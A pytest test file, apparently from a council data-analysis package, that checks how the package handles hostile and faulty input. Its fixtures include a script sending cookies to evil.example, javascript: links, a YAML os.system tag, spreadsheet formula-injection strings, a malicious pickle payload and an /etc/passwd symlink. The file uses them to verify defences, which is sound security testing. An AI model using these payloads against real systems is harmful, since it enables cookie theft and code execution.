"""Issue 9, "Hostile and faulty input": one test (or more) for each failure found when an attacker and an unlucky
council analyst were simulated against the package. Each test gives the input described in the issue and checks
the plain answer. All offline and deterministic; nothing here starts a notebook kernel."""

from __future__ import annotations

import gzip
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import types
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from cpanalysis import cli, config, pack, paths, safe_output
from cpanalysis.errors import FatalError
from cpanalysis.export import neutralise_formulas
from cpanalysis.safe_html import markdown_to_html
from cpanalysis.sources import local, published
from cpanalysis.sources.ssda903 import load_ssda903
from cpanalysis.validation import blocking_findings
from cpanalysis.validation.errors import FatalInputError

BASE = Path(__file__).parent / "malformed" / "base"
EPISODE_COLUMNS = ("CHILD,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE,HOME_POST,PL_POST,URN")


def run(capsys, *argv):
    code = cli.main([str(a) for a in argv])
    out = capsys.readouterr()
    return code, out.out, out.err


def base_return(tmp_path: Path) -> Path:
    ret = tmp_path / "ret"
    shutil.copytree(BASE, ret)
    return ret


def set_cell(path: Path, row: int, column: str, value: str) -> None:
    lines = path.read_text(encoding="utf-8").splitlines()
    head = lines[0].split(",")
    cells = lines[row - 1].split(",")
    cells[head.index(column)] = value
    lines[row - 1] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


# ================================================================================ 1. safe output
def test_out_pointing_at_a_folder_with_other_files_is_refused_and_nothing_is_deleted(capsys, tmp_path):
    target = tmp_path / "mine"
    target.mkdir()
    (target / "budget.xlsx").write_text("keep me")
    (target / "notes.txt").write_text("and me")
    code, _, err = run(capsys, "pack", "--out", target, "--topics", "4")
    assert code == 2
    assert "did not create" in err and "budget.xlsx" in err
    assert sorted(p.name for p in target.iterdir()) == ["budget.xlsx", "notes.txt"]


@pytest.mark.parametrize("where", ["cwd", "root", "parent_of_root", "home", "file_system_root"])
def test_output_dir_dot_dotdot_home_and_root_are_refused_whatever_they_hold(where, monkeypatch, tmp_path):
    folder = {"cwd": Path.cwd(), "root": paths.ROOT, "parent_of_root": paths.ROOT.parent, "home": Path.home(),
              "file_system_root": Path("/")}[where]
    with pytest.raises(safe_output.OutputFolderError, match="will not write the pack here"):
        safe_output.check_replaceable(folder)
    # even with the marker a build would have written (a marker copied into the wrong place)
    monkeypatch.setattr(safe_output, "_is_legacy_pack", lambda f: True)
    with pytest.raises(safe_output.OutputFolderError):
        safe_output.check_replaceable(folder)


def test_output_dir_dot_in_a_parameters_file_is_refused(capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "precious.txt").write_text("x")
    p = tmp_path / "p.yml"
    p.write_text(paths.DEFAULT_PARAMS.read_text().replace("output_dir: outputs/demo", "output_dir: ..")
                 if "output_dir: outputs/demo" in paths.DEFAULT_PARAMS.read_text()
                 else paths.DEFAULT_PARAMS.read_text() + "\noutput_dir: ..\n")
    code, _, err = run(capsys, "pack", "--params", p, "--topics", "4")
    assert code == 2 and "will not write the pack here" in err
    assert (tmp_path / "precious.txt").exists() and paths.ROOT.exists()


def test_new_empty_marked_or_old_pack_folders_may_be_replaced(tmp_path):
    safe_output.check_replaceable(tmp_path / "new")
    (tmp_path / "empty").mkdir()
    safe_output.check_replaceable(tmp_path / "empty")
    marked = tmp_path / "marked"
    marked.mkdir()
    safe_output.mark(marked)
    (marked / "evidence-pack.html").write_text("<html>")
    (marked / "anything.txt").write_text("written inside a folder cpanalysis owns")
    safe_output.check_replaceable(marked)
    legacy = tmp_path / "legacy"
    (legacy / "notebooks").mkdir(parents=True)
    (legacy / "evidence-pack.html").write_text("<html>")
    (legacy / "notebooks" / "04_stability.ipynb").write_text("{}")
    safe_output.check_replaceable(legacy)  # a pack written before the marker existed
    (legacy / "minutes.docx").write_text("not ours")
    with pytest.raises(safe_output.OutputFolderError):
        safe_output.check_replaceable(legacy)
    f = tmp_path / "a-file"
    f.write_text("x")
    with pytest.raises(safe_output.OutputFolderError, match="is a file"):
        safe_output.check_replaceable(f)


def test_relative_out_and_params_resolve_from_the_working_directory(capsys, tmp_path, monkeypatch):
    seen = {}

    def fake_build(params, topics=None, out=None, workers=None, **kw):
        seen["out"] = out
        seen["params"] = params.source_file
        raise FatalError("stop here")

    monkeypatch.setattr(pack, "build_pack", fake_build)
    monkeypatch.chdir(tmp_path)
    shutil.copy(paths.DEFAULT_PARAMS, tmp_path / "mine.yml")
    code, _, err = run(capsys, "pack", "--params", "mine.yml", "--out", "packs/x")
    assert code == 2 and "stop here" in err
    assert seen["out"] == tmp_path / "packs" / "x"
    assert seen["params"] == tmp_path / "mine.yml"
    # parameters/demo.yml is not in the working directory: a plain "not found", not the repository's copy
    code, _, err = run(capsys, "validate", "--params", "parameters/demo.yml")
    assert code == 2 and str(tmp_path / "parameters" / "demo.yml") in err


def test_a_second_build_into_the_same_folder_fails_fast(tmp_path):
    out = tmp_path / "pack"
    with safe_output.output_lock(out):
        with pytest.raises(safe_output.OutputFolderError, match="another cpanalysis build"):
            with safe_output.output_lock(out):
                pass
    with safe_output.output_lock(out):  # released: the next build may go ahead, and no lock file is left
        pass
    assert list(tmp_path.iterdir()) == []


def test_staging_is_private_and_removed_on_every_exit_path(tmp_path):
    out = tmp_path / "pack"
    with pytest.raises(RuntimeError):
        with safe_output.private_staging(out) as staging:
            assert (staging.stat().st_mode & 0o777) == 0o700
            (staging / "cache").mkdir()
            (staging / "cache" / "context.pkl").write_bytes(b"child-level data")
            raise RuntimeError("a notebook failed")
    assert list(tmp_path.iterdir()) == []


def test_staging_is_removed_when_the_build_is_terminated(tmp_path):
    script = textwrap.dedent(f"""
        import sys, time
        from pathlib import Path
        from cpanalysis import safe_output
        with safe_output.private_staging(Path({str(tmp_path / 'pack')!r})) as s:
            (s / "context.pkl").write_bytes(b"child-level data")
            print(s, flush=True)
            time.sleep(600)
    """)
    env = {**os.environ, "PYTHONPATH": str(paths.ROOT)}
    proc = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True, env=env)
    staging = Path(proc.stdout.readline().strip())
    assert staging.exists()
    proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=60)
    assert not staging.exists()
    assert list(tmp_path.iterdir()) == []


def test_staging_left_by_a_killed_build_is_removed_by_the_next(tmp_path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = tmp_path / f".pack.building-{dead.pid}-abc123"
    (stale / "cache").mkdir(parents=True)
    (stale / "cache" / "context.pkl").write_bytes(b"child-level data")
    mine = tmp_path / f".pack.building-{os.getpid()}-def456"  # this process is alive: never touched
    mine.mkdir()
    other = tmp_path / ".unrelated.building-1-x"
    other.mkdir()
    assert safe_output.sweep_stale(tmp_path / "pack") == [stale]
    assert not stale.exists() and mine.exists() and other.exists()


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux only")
def test_workers_die_with_the_builder(tmp_path):
    pidfile = tmp_path / "worker.pid"
    script = textwrap.dedent(f"""
        import os, time
        from cpanalysis import pack

        def work(path):
            import subprocess
            from cpanalysis import workers
            # stands in for the worker's Jupyter kernel, started as the kernels are (dying with the worker)
            kernel = subprocess.Popen(["sleep", "600"], **workers.kernel_start_options())
            workers.register_child(kernel.pid)
            open(path, "w").write(f"{{os.getpid()}} {{kernel.pid}}")
            time.sleep(600)

        if __name__ == "__main__":
            from cpanalysis import workers
            pool = workers.pool(1)
            pool.submit(work, {str(pidfile)!r})
            time.sleep(600)
    """)
    (tmp_path / "builder.py").write_text(script)
    env = {**os.environ, "PYTHONPATH": str(paths.ROOT)}
    builder = subprocess.Popen([sys.executable, str(tmp_path / "builder.py")], env=env, cwd=tmp_path)
    try:
        for _ in range(1200):
            if pidfile.exists() and len(pidfile.read_text().split()) == 2:
                break
            subprocess.run(["sleep", "0.05"])
        worker, kernel = (int(x) for x in pidfile.read_text().split())
        builder.kill()  # kill -9: no handler runs in the builder
        builder.wait()
        for pid in (worker, kernel):
            for _ in range(1200):
                try:
                    os.kill(pid, 0)
                    with open(f"/proc/{pid}/stat") as fh:
                        if fh.read().split(") ")[1].startswith("Z"):
                            break  # exited; a zombie waiting for init to reap it
                except (ProcessLookupError, FileNotFoundError):
                    break
                subprocess.run(["sleep", "0.05"])
            else:
                pytest.fail(f"process {pid} outlived the builder")
    finally:
        builder.kill()


# ================================================================================ 2. evidence as data
HOSTILE_MARKDOWN = """# Officers' answer
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<img src=x onerror="alert(1)">
[Read more](javascript:alert(document.domain)) and [mixed case](JaVaScRiPt:alert(1))
![logo](https://evil.example/pixel.png)
<iframe src="https://evil.example"></iframe>
<a href="javascript:alert(1)">raw link</a> <div style="background:url(https://evil.example/x)">styled</div>
[Ofsted report](https://reports.ofsted.gov.uk/) and [the annex](#annex-quality) and [email](mailto:a@b.gov.uk)
"""


class _Tags(HTMLParser):
    """Every element and attribute of a piece of HTML, as a browser would see them."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.feed(markup)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def assert_inert(markup: str) -> None:
    """No element or attribute that runs code or fetches anything."""
    for tag, attrs in _Tags(markup).tags:
        assert tag not in ("script", "iframe", "object", "embed", "style", "link", "form", "svg", "math"), tag
        for name, value in attrs.items():
            assert not name.startswith("on") and name != "style", (tag, name)
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                v = value.strip().lower()
                assert v.startswith(("https://", "http://", "mailto:", "#")) if name == "href" else \
                    v.startswith("data:image/"), (tag, name, value)


def test_officers_markdown_cannot_carry_scripts_events_unsafe_links_or_remote_images():
    out = markdown_to_html(HOSTILE_MARKDOWN)
    assert_inert(out)
    assert "&lt;script&gt;" in out  # shown as text, so the committee sees what was written
    assert '<a href="https://reports.ofsted.gov.uk/" rel="noopener noreferrer">Ofsted report</a>' in out
    assert 'href="#annex-quality"' in out and 'href="mailto:a@b.gov.uk"' in out
    assert "[image not shown: logo]" in out
    assert [t for t, _ in _Tags(out).tags if t == "img"] == []
    inline = markdown_to_html("![chart](data:image/png;base64,iVBORw0KGgo=)")
    assert [t for t, _ in _Tags(inline).tags] == ["p", "img"]


def test_written_evidence_in_the_pack_is_sanitised(tmp_path, monkeypatch):
    from cpanalysis import present

    ev = tmp_path / "evidence"
    ev.mkdir()
    (ev / "q04.md").write_text(HOSTILE_MARKDOWN, encoding="utf-8")
    shown = []
    monkeypatch.setattr(present, "_display_html", shown.append)
    ctx = types.SimpleNamespace(params=types.SimpleNamespace(inputs=types.SimpleNamespace(evidence=ev)))
    present.written_evidence(ctx, 4)
    html = "".join(shown)
    assert "Written evidence" in html and "Officers" in html
    assert_inert(html)


def test_pack_template_carries_a_content_security_policy_forbidding_scripts_and_requests(tmp_path):
    import nbformat

    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Hello")])
    src = tmp_path / "a.ipynb"
    nbformat.write(nb, src)
    html = pack.export_html([src], tmp_path / "a.html", title="t", demonstration=False).read_text()
    head = html[:html.index("</head>")]
    (policy,) = [a["content"] for t, a in _Tags(head).tags
                 if t == "meta" and a.get("http-equiv", "").lower() == "content-security-policy"]
    assert "default-src 'none'" in policy and "script-src 'none'" in policy and "connect-src 'none'" in policy
    assert "img-src data:" in policy and "http" not in policy
    assert html.index("Content-Security-Policy") < html.index("<style")


def test_windows_1252_evidence_is_read_and_says_so(tmp_path):
    (tmp_path / "q04.md").write_bytes("Officers\u2019 answer: \u00a3120 a week \u2013 agreed.".encode("cp1252"))
    text, note = local.read_evidence(tmp_path, 4)
    assert text == "Officers\u2019 answer: \u00a3120 a week \u2013 agreed."
    assert "Windows-1252" in note and "q04.md" in note
    (tmp_path / "q05.md").write_bytes("\ufeffUTF-8 with a BOM: \u00e9".encode())
    text, note = local.read_evidence(tmp_path, 5)
    assert text == "UTF-8 with a BOM: \u00e9" and "UTF-8" in note


def test_binary_or_undecodable_evidence_names_the_file(tmp_path):
    (tmp_path / "q04.md").write_bytes(b"PK\x03\x04\x00\x00 a Word document")
    with pytest.raises(FatalError, match=r"q04\.md.*binary"):
        local.read_evidence(tmp_path, 4)
    (tmp_path / "q04.md").unlink()
    (tmp_path / "q04.md").write_bytes(b"caf\x81 text")  # 0x81 is neither UTF-8 here nor Windows-1252
    with pytest.raises(FatalError, match=r"q04\.md: line 1"):
        local.read_evidence(tmp_path, 4)


def test_evidence_symlink_out_of_the_folder_is_refused(tmp_path):
    ev = tmp_path / "evidence"
    ev.mkdir()
    (ev / "q04.md").symlink_to("/etc/passwd")
    with pytest.raises(FatalError, match="outside the evidence folder"):
        local.read_evidence(ev, 4)
    (ev / "real.md").write_text("inside")
    (ev / "q05.md").symlink_to(ev / "real.md")  # a link inside the folder is fine
    assert local.read_evidence(ev, 5)[0] == "inside"


def test_missing_evidence_folder_is_reported_not_fatal(tmp_path):
    params = config.load(paths.DEFAULT_PARAMS, {"inputs.evidence": str(tmp_path / "nowhere")})
    assert local.read_evidence(tmp_path / "nowhere", 4) == (None, "")
    (note,) = local.check_evidence(params)
    assert "does not exist" in note


def test_bad_evidence_stops_the_pack_at_once_naming_the_file(tmp_path):
    ev = tmp_path / "evidence"
    ev.mkdir()
    (ev / "q04.md").write_bytes(b"\x00\x01binary")
    params = config.load(paths.DEFAULT_PARAMS, {"inputs.evidence": str(ev), "output_dir": str(tmp_path / "out")})
    with pytest.raises(FatalError, match="q04.md"):
        pack.build_pack(params, topics=[4], workers=1)
    assert not (tmp_path / "out").exists()


# ================================================================================ 3. faulty 903 data
@pytest.mark.parametrize("content", ["", EPISODE_COLUMNS + "\n"], ids=["empty", "header_only"])
def test_empty_or_header_only_episodes_for_the_reporting_year_is_an_error(capsys, tmp_path, content):
    ret = base_return(tmp_path)
    (ret / "2025" / "episodes.csv").write_text(content)
    code, out, _ = run(capsys, "validate", "--ssda903", ret, "--year", "2025")
    assert code == 1
    assert "RESULT: no errors" not in out
    assert "FILE-EMPTY-TABLE" in out and "2025/episodes.csv" in out
    data = load_ssda903(ret)
    found = blocking_findings(data, 2025)
    assert found and "3 children" in found[0]
    ctx = types.SimpleNamespace(data=data)
    params = types.SimpleNamespace(year=2025)
    with pytest.raises(FatalInputError, match="Episodes table"):  # the pack and the export refuse: no false 0
        pack._require_usable(ctx, params)


@pytest.mark.parametrize("value", ["31/12/9999", "12/05/3012", "01/01/1066"])
def test_date_outside_pandas_range_is_a_date_finding_not_a_traceback(capsys, tmp_path, value):
    ret = base_return(tmp_path)
    set_cell(ret / "2025" / "episodes.csv", 4, "DEC", value)
    code, out, err = run(capsys, "validate", "--ssda903", ret, "--year", "2025")
    assert code == 1, err
    assert "Traceback" not in out + err
    assert f"2025/episodes.csv, row 4, column DEC child C2: Found: '{value}'" in out
    data = load_ssda903(ret)
    q = data.quarantine
    assert q[["source_file", "source_row", "column", "rule_id"]].values.tolist() == [
        ["episodes.csv", 4, "DEC", "TYPE-DATE"]]


def test_future_and_unrecognised_year_folders_are_reported(tmp_path):
    ret = base_return(tmp_path)
    shutil.copytree(ret / "2025", ret / "2030")
    shutil.copytree(ret / "2025", ret / "abc")
    data = load_ssda903(ret)
    assert data.years == [2025]
    notes = " ".join(data.notes)
    assert "2030/" in notes and "abc/" in notes


def test_unexpected_failure_exits_3_with_a_plain_message(capsys, monkeypatch):
    def boom(args):
        raise KeyError("internal")

    monkeypatch.setattr(cli, "cmd_validate", boom)
    parser = cli.build_parser
    monkeypatch.setattr(cli, "build_parser", lambda: _with_func(parser(), "validate", boom))
    code, out, err = run(capsys, "validate")
    assert code == cli.EXIT_INTERNAL == 3
    assert "unexpected internal error" in err and "Traceback" not in err and "KeyError" in err


def _with_func(parser, command, func):
    for action in parser._subparsers._group_actions:
        action.choices[command].set_defaults(func=func)
    return parser


def test_control_characters_are_not_echoed_by_validate(capsys, tmp_path):
    ret = base_return(tmp_path)
    set_cell(ret / "2025" / "episodes.csv", 4, "DEC", "\x1b]0;owned\x07\x1b[2J")
    code, out, err = run(capsys, "validate", "--ssda903", ret, "--year", "2025")
    assert code == 1
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "\\x1b]0;owned" in out


# ================================================================================ 4. parameters files
@pytest.mark.parametrize("kind", ["non_utf8", "binary", "directory", "alias_bomb", "python_tag", "too_large"])
def test_bad_parameters_files_get_a_plain_answer(capsys, tmp_path, kind):
    p = tmp_path / "p.yml"
    if kind == "non_utf8":
        p.write_bytes("council: {name: Caf\u00e9 council}\n".encode("cp1252"))
        expect = "not UTF-8"
    elif kind == "binary":
        p.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
        expect = "binary"
    elif kind == "directory":
        p.mkdir()
        expect = "is a folder"
    elif kind == "alias_bomb":
        lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
        for i, name in enumerate("bcdefghi"):
            prev = "abcdefghi"[i]
            lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
        p.write_text("\n".join(lines) + "\n")
        assert p.stat().st_size < 2000
        expect = "aliases"
    elif kind == "python_tag":
        p.write_text("council: !!python/object/apply:os.system ['echo owned']\n")
        expect = "not valid YAML"
    else:
        p.write_text("# " + "x" * 1_100_000 + "\n")
        expect = "bytes"
    code, _, err = run(capsys, "validate", "--params", p)
    assert code == 2, err
    assert expect in err and "Traceback" not in err


# ================================================================================ 5. local returns
@pytest.mark.parametrize("value", ["nan", "1e400", "inf", "-inf"])
def test_nan_or_huge_numbers_in_a_local_return_are_quarantined(tmp_path, value):
    (tmp_path / "workforce.csv").write_text(
        "year,sw_fte,vacancies_fte,agency_fte,leavers_fte\n"
        f"2025,{value},2,3,4\n2024,30,2,3,4\n")
    ld = local.read_local(tmp_path)
    assert len(ld.tables["workforce"]) == 1
    q = ld.quarantine
    assert q[["source_row", "column"]].values.tolist() == [[2, "sw_fte"]]
    assert "should be a number" in q["message"].iloc[0]


def test_binary_local_return_names_the_file(tmp_path):
    (tmp_path / "spend.csv").write_bytes(b"PK\x03\x04\x14\x00\x06\x00binary workbook")
    with pytest.raises(FatalError, match=r"spend\.csv.*binary"):
        local.read_local(tmp_path)


def test_validate_checks_local_returns_and_evidence(capsys, tmp_path):
    loc = tmp_path / "local"
    loc.mkdir()
    (loc / "workforce.csv").write_text("year,sw_fte,vacancies_fte,agency_fte,leavers_fte\n2025,thirty,2,3,4\n")
    ev = tmp_path / "evidence"
    ev.mkdir()
    (ev / "q04.md").write_bytes("\u2013 Word text".encode("cp1252"))
    p = tmp_path / "p.yml"
    p.write_text(f"council: {{name: X}}\nyear: 2025\ninputs: {{ssda903: {BASE}, local: {loc}, evidence: {ev}}}\n")
    code, out, _ = run(capsys, "validate", "--params", p)
    assert code == 1
    assert "workforce.csv, row 2, column sw_fte" in out
    assert "q04.md was read as Windows-1252" in out
    (ev / "q05.md").symlink_to("/etc/passwd")
    code, _, err = run(capsys, "validate", "--params", p)
    assert code == 2 and "outside the evidence folder" in err and "root:" not in err


def test_spreadsheet_formulas_are_neutralised_in_csv_exports(tmp_path, monkeypatch):
    from cpanalysis import export

    df = pd.DataFrame({"title": ["=HYPERLINK(\"http://evil\",\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                 "Children looked after", "\t=1"],
                       "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0]})
    out = neutralise_formulas(df)
    assert out["title"].tolist() == ["'=HYPERLINK(\"http://evil\",\"x\")", "'+cmd|' /C calc'!A0", "'-2+3",
                                     "'@SUM(A1)", "Children looked after", "'\t=1"]
    assert out["value"].tolist() == [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0]  # numbers stay numbers
    monkeypatch.setattr(export, "indicator_frame", lambda params, public=False: df)
    export.export_indicators(None, tmp_path / "i.csv")
    text = (tmp_path / "i.csv").read_text()
    assert "\n=" not in text and "\n'=HYPERLINK" in text.replace('"', "")


# ================================================================================ 6. published data
def _demo_copy(tmp_path: Path) -> Path:
    src = tmp_path / "pub"
    shutil.copytree(paths.DEMO_PUBLISHED_DIR, src)
    return src


def _cache_entry(cache: Path) -> Path:
    (entry,) = list(cache.glob("published-*"))
    return entry


def test_replaced_cache_file_cannot_run_code_and_is_discarded(tmp_path, monkeypatch, capsys):
    import pickle

    monkeypatch.setenv("CPANALYSIS_CACHE_DIR", str(tmp_path / "cache"))
    src = _demo_copy(tmp_path)
    truth = published.load_published(src).figures
    entry = _cache_entry(tmp_path / "cache")
    canary = tmp_path / "ran"

    class Evil:
        def __reduce__(self):
            return (Path(canary).write_text, ("owned",))

    for f in entry.glob("*.parquet"):
        f.write_bytes(pickle.dumps(Evil()))
    again = published.load_published(src)
    assert not canary.exists()
    pd.testing.assert_frame_equal(truth, again.figures)
    assert "integrity check" in capsys.readouterr().err


def test_edited_cache_cannot_change_a_figure(tmp_path, monkeypatch):
    import json

    monkeypatch.setenv("CPANALYSIS_CACHE_DIR", str(tmp_path / "cache"))
    src = _demo_copy(tmp_path)
    truth = published.load_published(src).figures
    entry = _cache_entry(tmp_path / "cache")
    figures = pd.read_parquet(entry / "figures.parquet")
    figures.loc[0, "value"] = 99999.0
    figures.to_parquet(entry / "figures.parquet", index=False)
    # even with the manifest's hash updated (the signature then fails)
    manifest = json.loads((entry / "manifest.json").read_text())
    manifest["frames"]["figures"]["sha256"] = published._file_hash(entry / "figures.parquet")
    (entry / "manifest.json").write_text(json.dumps(manifest))
    again = published.load_published(src)
    pd.testing.assert_frame_equal(truth, again.figures)
    assert 99999.0 not in again.figures["value"].tolist()


def test_same_size_edit_with_mtime_kept_is_not_served_stale(tmp_path, monkeypatch):
    monkeypatch.setenv("CPANALYSIS_CACHE_DIR", str(tmp_path / "cache"))
    src = _demo_copy(tmp_path)
    gz = src / "ees" / "la_cla_placement_stability_synthetic.csv.gz"
    plain_csv = gz.with_suffix("")  # the same table, uncompressed, so one digit can change in place
    plain_csv.write_bytes(gzip.decompress(gz.read_bytes()))
    gz.unlink()
    first = published.load_published(src)
    data = plain_csv.read_bytes()
    st = plain_csv.stat()
    lines = data.split(b"\n")
    head = lines[0].split(b",")
    i = next(k for k, line in enumerate(lines[1:], 1) if line and line.split(b",")[head.index(b"geographic_level")]
             == b"National")
    cells = lines[i].split(b",")
    j = next(c for c in range(len(cells)) if cells[c][:1].isdigit() and c != head.index(b"time_period"))
    cells[j] = (b"1" if cells[j][:1] != b"1" else b"2") + cells[j][1:]
    lines[i] = b",".join(cells)
    plain_csv.write_bytes(b"\n".join(lines))
    os.utime(plain_csv, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert plain_csv.stat().st_size == st.st_size and plain_csv.stat().st_mtime_ns == st.st_mtime_ns
    second = published.load_published(src)
    t1, t2 = (p.table("la_cla_placement_stability") for p in (first, second))
    col = head[j].decode()
    assert t1.frame[col].tolist() != t2.frame[col].tolist()


def test_cache_folder_writable_by_others_is_not_used(tmp_path, monkeypatch, capsys):
    cache = tmp_path / "cache"
    cache.mkdir()
    cache.chmod(0o777)
    monkeypatch.setenv("CPANALYSIS_CACHE_DIR", str(cache))
    published.load_published(_demo_copy(tmp_path))
    assert list(cache.iterdir()) == []
    assert "writable by other users" in capsys.readouterr().err


def test_new_cache_folder_is_private(tmp_path, monkeypatch):
    monkeypatch.setenv("CPANALYSIS_CACHE_DIR", str(tmp_path / "cache"))
    published.load_published(_demo_copy(tmp_path))
    assert (tmp_path / "cache").stat().st_mode & 0o777 == 0o700


def test_same_table_in_two_releases_uses_the_newer_and_says_so(tmp_path, capsys):
    name = "la_cla_placement_stability_synthetic.csv.gz"
    for release in ("release-2025", "release-2024"):
        (tmp_path / release).mkdir()
    full = pd.read_csv(paths.DEMO_PUBLISHED_DIR / "ees" / name, dtype=str, keep_default_na=False)
    latest = full["time_period"].astype(int).max()
    full.to_csv(tmp_path / "release-2025" / name, index=False)
    full[full["time_period"].astype(int) < latest].to_csv(tmp_path / "release-2024" / name, index=False)
    pub = published.load_published(tmp_path, cache=False)
    t = pub.table("la_cla_placement_stability")
    assert "release-2025" in str(t.path)
    files = pub.files.set_index("file")
    assert files.loc[str(tmp_path / "release-2024" / name), "layout"] == "duplicate"
    why = files.loc[str(tmp_path / "release-2024" / name), "notes"]
    assert "release-2025" in why and f"run to {latest}" in why
    assert "release-2025" in capsys.readouterr().err


def test_corrupt_gzip_is_reported(tmp_path, capsys):
    shutil.copy(paths.DEMO_PUBLISHED_DIR / "ees" / "la_cla_school_moves_synthetic.csv.gz", tmp_path)
    good = gzip.compress(b"time_period,geographic_level,count\n2025,National,5\n" * 2000)
    (tmp_path / "la_cla_swcount_synthetic.csv.gz").write_bytes(good[: len(good) // 2])  # cut short
    (tmp_path / "absence_la_synthetic.csv.gz").write_bytes(b"\x1f\x8b\x08\x00 not really gzip")
    pub = published.load_published(tmp_path, cache=False)
    files = pub.files.set_index("file")
    for bad in ("la_cla_swcount_synthetic.csv.gz", "absence_la_synthetic.csv.gz"):
        row = files.loc[str(tmp_path / bad)]
        assert row["layout"] == "skipped" and "damaged" in row["notes"]
    err = capsys.readouterr().err
    assert "la_cla_swcount_synthetic.csv.gz" in err and "absence_la_synthetic.csv.gz" in err


def test_download_checks_gzip_in_chunks_and_refuses_a_damaged_one(tmp_path):
    from cpanalysis import download

    data = gzip.compress(b"time_period,geographic_level\n" + b"2025,National\n" * 100_000)
    (tmp_path / "ok.csv.gz").write_bytes(data)
    (tmp_path / "cut.csv.gz").write_bytes(data[:-20])
    assert download._looks_published(tmp_path / "ok.csv.gz", "ees_dashboard/ok.csv.gz")
    assert not download._looks_published(tmp_path / "cut.csv.gz", "ees_dashboard/cut.csv.gz")
